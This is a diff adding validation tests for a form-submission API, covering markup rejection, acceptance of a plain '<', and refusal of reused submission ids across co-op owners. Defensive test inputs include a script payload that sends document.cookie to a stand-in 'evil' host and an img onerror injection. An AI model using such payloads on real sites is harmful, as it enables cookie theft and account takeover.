@@ -455,6 +455,68 @@ describe('POST /api/submit', () => {
       expect(service.emulator.writes()).toEqual([]);
     });
 
+    it('answers 400 VALIDATION_FAILED with TEXT_HAS_MARKUP for text that a browser would read as markup, and writes nothing', async () => {
+      const response = await submit({
+        Organizing_notes: 'Met the board.<script>fetch("//evil/"+document.cookie)</script>',
+        Name_on_Incorporation_Certificate: 'Acme <img src=x onerror=alert(1)>',
+      });
+
+      expect(response.status).toBe(400);
+      expect(await refused(response)).toMatchObject({
+        code: 'VALIDATION_FAILED',
+        fields: ['Organizing_notes', 'Name_on_Incorporation_Certificate'],
+        problems: {
+          Organizing_notes: 'TEXT_HAS_MARKUP',
+          Name_on_Incorporation_Certificate: 'TEXT_HAS_MARKUP',
+        },
+        reasons: { Organizing_notes: expect.stringContaining('web page code') },
+      });
+      expect(service.emulator.writes()).toEqual([]);
+    });
+
+    it('takes text with a "<" that is not markup as written', async () => {
+      await accepted({ Organizing_notes: 'Membership grew from < 40 to 52 & we <3 it' });
+
+      expect(createdValues()).toMatchObject({
+        [activityField('Organizing_notes')]: 'Membership grew from < 40 to 52 & we <3 it',
+      });
+    });
+
+    it("refuses a second owner of the co-op reusing another owner's submission id: 409, nothing shared, nothing written", async () => {
+      const model = service.emulator.model;
+      const [second] = model.api4('Contact', 'create', {
+        values: { contact_type: 'Individual', first_name: 'Second', last_name: 'Owner' },
+      });
+      const secondId = Number(second?.['id']);
+      model.api4('Relationship', 'create', {
+        values: {
+          contact_id_a: secondId,
+          contact_id_b: DEMO_ORG_ID,
+          'relationship_type_id:name': 'Primary Contact',
+        },
+      });
+      model.setFixedChecksum(secondId, 'demo-second');
+      const submissionId = randomUUID();
+      const first = await accepted({ Organizing_notes: 'First owner: met the board.' }, submissionId);
+
+      const reused = await submit({ Organizing_notes: 'Second owner: signed the lease.' }, submissionId, {
+        contactId: secondId,
+        orgId: DEMO_ORG_ID,
+        cid: secondId,
+        cs: 'demo-second',
+      });
+
+      expect(reused.status).toBe(409);
+      const body = await refused(reused);
+      expect(body).toMatchObject({ code: 'SUBMISSION_ID_IN_USE' });
+      expect(JSON.stringify(body)).not.toContain(String(first.activityId));
+      expect(activityCreates()).toHaveLength(1);
+      // The first owner's retry still answers the first result.
+      expect(await accepted({ Organizing_notes: 'First owner: met the board.' }, submissionId)).toEqual(
+        first,
+      );
+    });
+
     it('answers 400 for a missing submissionId or a body that is not JSON', async () => {
       const noId = await service.post('/api/submit', { ...DEMO_LINK, values: {} });
       expect(noId.status).toBe(400);
